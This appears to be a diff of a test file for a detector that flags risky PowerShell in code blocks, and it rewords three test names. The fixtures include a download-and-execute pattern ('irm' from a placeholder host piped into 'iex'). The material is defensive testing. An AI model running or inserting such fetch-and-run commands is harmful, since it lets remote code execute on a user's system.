@@ -9,7 +9,7 @@ const loader = [
   "iex $code",
 ];
 
-it("quotes of PowerShell that a shell would leave open are no limit", async () => {
+it("PowerShell quotes that are unbalanced in a shell are not a limit", async () => {
   const detector = await createNodeDetector({ profile: "extended" });
   const { spans, outcome } = detector.detect(`\`\`\`powershell\n${loader.join("\n")}\n\`\`\`\n`);
   expect([spans.length, outcome]).toEqual([1, { status: "complete" }]);
@@ -26,7 +26,7 @@ const refused = [
   "$d = $a - $b",
 ];
 
-it.each(refused)("%s is read, and what follows it", async (statement) => {
+it.each(refused)("%s is read, and the following text", async (statement) => {
   const detector = await createNodeDetector({ profile: "extended" });
   const script = (run: string): string => `\`\`\`powershell\n${statement}\n${run}\n\`\`\`\n`;
   const found = detector.detect(script("$c = irm https://x.example/a.ps1\niex $c"));
@@ -35,7 +35,7 @@ it.each(refused)("%s is read, and what follows it", async (statement) => {
   expect([harmless.labels, harmless.outcome]).toEqual([[], { status: "complete" }]);
 });
 
-it("a member behind parentheses is no open quotation in the contract's reading", async () => {
+it("a member after parentheses is not an unterminated string in the contract profile", async () => {
   const detector = await createNodeDetector({ profile: "contract" });
   const script = [
     '$order = "size"',
